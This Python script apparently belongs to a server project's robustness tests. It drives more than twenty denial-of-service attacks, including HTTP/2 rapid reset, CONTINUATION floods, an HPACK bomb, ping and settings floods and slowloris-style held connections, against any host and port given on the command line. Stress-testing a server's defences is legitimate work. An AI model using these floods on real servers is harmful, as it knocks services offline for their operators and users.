#!/usr/bin/env python3
"""attacker.py ATTACK HOST:PORT SECONDS [PIECES]: does to a server what it should withstand, for so long, or until so
much is sent; without arguments it lists them. Prints `attacking` once it
has begun, and at the end how often it was shown the door. With TERN_ATTACK_GENTLY in its environment it takes only
what CPU nobody else wants, so that the honest can be measured beside it.

An attack is what one connection sends, piece by piece; None: nothing more, it only stays. Where the server closes, or
reads no more, another connection takes its place, beside as many as are held.
"""
import itertools
import os
import select
import socket
import sys
import time

from frames import Http2, Native, STREAM_PATH, echo_message

BATCH = 200  # frames in a piece: a flood, not a trickle


def batches(frames, n=BATCH):
    frames = iter(frames)
    while True:
        yield b"".join(itertools.islice(frames, n))


# ---- HTTP/2 --------------------------------------------------------------


def h2_rapid_reset():
    yield Http2.preface()
    yield from batches(Http2.headers(s) + Http2.reset(s) for s in Http2.streams())


def h2_made_you_reset():
    """The server is made to reset: a window's update of nothing is a stream's error."""
    yield Http2.preface()
    yield from batches(Http2.headers(s) + Http2.window(s, 0) for s in Http2.streams())


def h2_malformed_requests():
    block = Http2.request_block() + Http2.field(b"Capital", b"letters")
    yield Http2.preface()
    yield from batches(Http2.headers(s, Http2.END_STREAM, block) for s in Http2.streams())


def h2_continuations():
    yield Http2.preface() + Http2.frame(Http2.HEADERS, 0, 1, Http2.request_block())
    yield from batches(itertools.repeat(Http2.frame(Http2.CONTINUATION, 0, 1, Http2.field(b"a", b"b"))))


def h2_empty_continuations():
    yield Http2.preface() + Http2.frame(Http2.HEADERS, 0, 1, Http2.request_block())
    yield from batches(itertools.repeat(Http2.frame(Http2.CONTINUATION, 0, 1)))


def h2_settings():
    yield Http2.preface()
    yield from batches(itertools.repeat(Http2.frame(Http2.SETTINGS, 0, 0)))


def h2_pings():
    yield Http2.preface()
    yield from batches(itertools.repeat(Http2.frame(Http2.PING, 0, 0, bytes(8))))


def h2_priorities():
    yield Http2.preface()
    yield from batches(itertools.repeat(Http2.frame(Http2.PRIORITY, 0, 1, b"\0\0\0\3\x10")))


def h2_foreign_frames():
    yield Http2.preface()
    yield from batches(itertools.repeat(Http2.frame(0xFA, 0, 0)))


def h2_empty_data():
    yield Http2.preface() + Http2.headers(1)
    yield from batches(itertools.repeat(Http2.frame(Http2.DATA, 0, 1)))


def h2_tiny_data():
    """A message of a mebibyte, a byte a frame."""
    yield Http2.preface() + Http2.headers(1) + Http2.frame(Http2.DATA, 0, 1, b"\0\0\x10\0\0")
    yield from batches(itertools.repeat(Http2.frame(Http2.DATA, 0, 1, b"\0")))


def h2_empty_messages():
    """Each takes five bytes of the window, and something of the server."""
    yield Http2.preface() + Http2.headers(1, block=Http2.request_block(STREAM_PATH))
    yield from batches(itertools.repeat(Http2.frame(Http2.DATA, 0, 1, bytes(5 * 100))))


def h2_window_updates():
    yield Http2.preface()
    yield from batches(itertools.repeat(Http2.window(0, 1)))


def h2_hpack_bomb():
    """An entry of the table, and a frame full of references to it."""
    block = b"\x40" + Http2.string(b"bomb") + Http2.string(bytes(4000)) + b"\xbe" * 16000
    yield Http2.preface()
    for s in Http2.streams():
        yield Http2.headers(s, Http2.END_STREAM, Http2.request_block() + block[: 16384 - 200])


def h2_stalled_windows():
    """Calls whose replies nobody will ever take."""
    yield Http2.preface(initial_window=0) + Http2.window(0, 1 << 30)
    for s in itertools.islice(Http2.streams(), 50):
        yield Http2.call(s, 16000)
    yield None


def h2_never_reads():
    yield Http2.preface(initial_window=(1 << 31) - 1) + Http2.window(0, 1 << 30)
    yield from batches((Http2.call(s, 16000) for s in Http2.streams()), 20)


def h2_half_a_request():
    yield Http2.preface() + Http2.headers(1)[:20]
    yield None


def slow_preface():
    yield b"P"
    yield None


def says_nothing():
    yield None


def comes_and_goes():
    yield b""


# ---- native --------------------------------------------------------------


def native_rapid_reset():
    yield Native.preface()
    yield from batches(Native.open(s) + Native.reset(s) for s in Native.streams())


def native_unknown_methods():
    yield Native.preface()
    yield from batches(Native.open(s, Native.MESSAGE | Native.END, "/a.B/C") for s in Native.streams())


def native_pings():
    yield Native.preface()
    yield from batches(itertools.repeat(Native.frame(Native.PING, body=bytes(8))))


def native_foreign_frames():
    yield Native.preface()
    yield from batches(itertools.repeat(Native.frame(200)))


def native_nothings():
    """DATA that means nothing, on a stream."""
    yield Native.preface() + Native.open(1, path=STREAM_PATH)
    yield from batches(itertools.repeat(Native.frame(Native.DATA, 0, 1)))


def native_empty_messages():
    yield Native.preface() + Native.open(1, path=STREAM_PATH)
    yield from batches(itertools.repeat(Native.frame(Native.DATA, Native.MESSAGE, 1)))


def native_window_updates():
    yield Native.preface()
    yield from batches(itertools.repeat(Native.frame(Native.WINDOW, head=b"\x08\x01")))


def native_path_ids():
    """As many names as can be made up."""
    yield Native.preface()
    yield from batches(
        Native.open(s, Native.MESSAGE | Native.END, f"/a.B/{s}", more_head=b"\x10" + bytes([1 + s % 64]))
        for s in Native.streams()
    )


def native_announced():
    """A long message on each of many calls, of which nothing comes."""
    yield Native.preface()
    for s in itertools.islice(Native.streams(), 50):
        yield Native.open(s, Native.MORE, more_head=b"\x30\x80\x80\x80\x20")
    yield None


def native_never_reads():
    yield Native.preface()
    yield from batches((Native.call(s, 16000) for s in Native.streams()), 20)


def native_half_a_frame():
    yield Native.preface() + Native.call(1, 1000)[:100]
    yield None


# ---- the driver ----------------------------------------------------------

ATTACKS = {
    name: value for name, value in list(globals().items())
    if name.startswith(("h2_", "native_")) or name in ("slow_preface", "says_nothing", "comes_and_goes")
}

MAX_HELD = 20     # connections that only stay
STUCK_S = 0.2     # the server reads no more


class Attacker:
    def __init__(self, attack, address, until, n_left):
        self.attack, self.address, self.until, self.n_left = attack, address, until, n_left
        self.held, self.n_closed = [], 0
        self.has_begun = False

    def is_over(self):
        return self.n_left <= 0 or time.monotonic() > self.until

    def send(self, sock, piece):
        """False: it does not go. Nothing that comes is read."""
        piece = memoryview(piece)
        self.n_left -= 1
        while piece and time.monotonic() < self.until:
            if not select.select([], [sock], [], STUCK_S)[1]:
                return False
            piece = piece[sock.send(piece):]
        if not self.has_begun:
            print("attacking", flush=True)
        self.has_begun = True
        return True

    def play(self):
        sock = socket.create_connection(self.address)
        sock.setblocking(False)
        for piece in self.attack():
            if self.is_over():
                break
            if not self.send(sock, piece or b"") or piece is None:
                self.held.append(sock)
                return
        sock.close()

    def run(self):
        while not self.is_over():
            if len(self.held) >= MAX_HELD:
                self.n_left -= 1
                time.sleep(0.001)
                continue
            try:
                self.play()
            except (ConnectionError, BrokenPipeError):
                self.n_closed += 1


def main():
    if len(sys.argv) < 4:
        print(*ATTACKS)
        return
    name, address, seconds, *pieces = sys.argv[1:]
    host, _, port = address.rpartition(":")
    if "TERN_ATTACK_GENTLY" in os.environ:
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    attacker = Attacker(ATTACKS[name], (host, int(port)), time.monotonic() + float(seconds),
                        int(pieces[0]) if pieces else sys.maxsize)
    attacker.run()
    print(f"{name}: {attacker.n_closed} times the door, {len(attacker.held)} connections held")


if __name__ == "__main__":
    main()
